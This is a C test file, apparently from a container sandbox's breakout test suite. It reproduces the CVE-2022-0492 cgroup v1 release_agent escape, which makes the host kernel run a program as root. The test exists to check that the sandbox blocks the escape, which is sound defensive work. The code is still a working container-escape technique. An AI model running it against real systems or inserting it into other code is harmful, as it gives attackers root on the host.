/**
 * @file
 * @brief release_agent: the host's root runs a program when a cgroup is empty.
 *
 * Version 1 of cgroups has a file for the path of a program that the kernel
 * starts when a cgroup's last process leaves: as root, on the host. The file
 * system can be mounted even where nobody uses it, without any controller.
 * CVE-2022-0492: no capability was asked for. Now it is CAP_SYS_ADMIN in the
 * first user namespace.
 */
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(release_agent)
{
    char agent[128];

    mkdir("/tmp/v1", 0755);
    if (mount("v1", "/tmp/v1", "cgroup", 0, "none,name=breakout") < 0)
        return stopped("mount(\"cgroup\")");
    snprintf(agent, sizeof(agent), "%s/bin/prove-agent", root_on_host());
    mkdir("/tmp/v1/group", 0755);
    if (put("/tmp/v1/release_agent", agent) < 0 ||
        put("/tmp/v1/group/notify_on_release", "1") < 0)
        return stopped("release_agent");
    if (fork() == 0) {
        put("/tmp/v1/group/cgroup.procs", "0");
        _exit(0);
    }
    wait(NULL);
    return linger();
}
